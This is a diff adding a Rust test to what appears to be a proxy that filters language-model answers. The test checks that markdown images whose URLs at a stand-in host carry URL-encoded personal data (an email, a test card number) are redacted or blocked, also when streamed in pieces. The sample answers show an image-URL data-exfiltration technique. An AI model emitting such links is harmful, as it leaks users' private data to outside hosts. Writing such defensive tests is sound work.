@@ -86,6 +86,40 @@ async fn an_image_that_carries_text_to_another_host_is_blocked() {
 }
 
 #[tokio::test]
+async fn personal_data_url_encoded_into_an_image_does_not_leave() {
+    // No host list: the image is allowed, the data in its URL is not.
+    let up = Upstream::start().await;
+    let p = proxy(BASIC, &up).await;
+    let exfil = "Summary ready. ![](https://log.example/p.png?e=jane.roe%40example.com)";
+    let r = answer(&p, "", exfil, false).await;
+    let body = r.text();
+    assert_eq!(r.header("x-menshen-decision"), "redact", "{body}");
+    let content = r.json()["choices"][0]["message"]["content"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    assert!(
+        content.starts_with("Summary ready. ![](https://log.example/p.png?e="),
+        "{content}"
+    );
+    assert!(!content.contains("jane.roe"), "{content}");
+    // A card number in an answer is not redacted but refused, encoded too.
+    let exfil = "Summary ready. ![](https://log.example/p.png?c=4111%201111%201111%201111)";
+    let r = answer(&p, "", exfil, false).await;
+    assert_eq!(r.header("x-menshen-decision"), "block", "{}", r.text());
+    assert!(!r.text().contains("4111"), "{}", r.text());
+    // Streamed, the encoded value split over two events.
+    let pieces = [
+        "Summary ready. ![](https://log.example/p.png?e=jane.roe%4",
+        "0example.com) Anything else?",
+    ];
+    let r = answer(&p, "sse-openai", &pieces.join("|"), true).await;
+    let text = openai_stream_text(&r.text());
+    assert!(!text.contains("jane.roe"), "{text}");
+    assert!(text.contains("Anything else?"), "{text}");
+}
+
+#[tokio::test]
 async fn with_an_image_host_list_an_image_from_elsewhere_is_blocked_whole_or_streamed() {
     let up = Upstream::start().await;
     let config = format!(
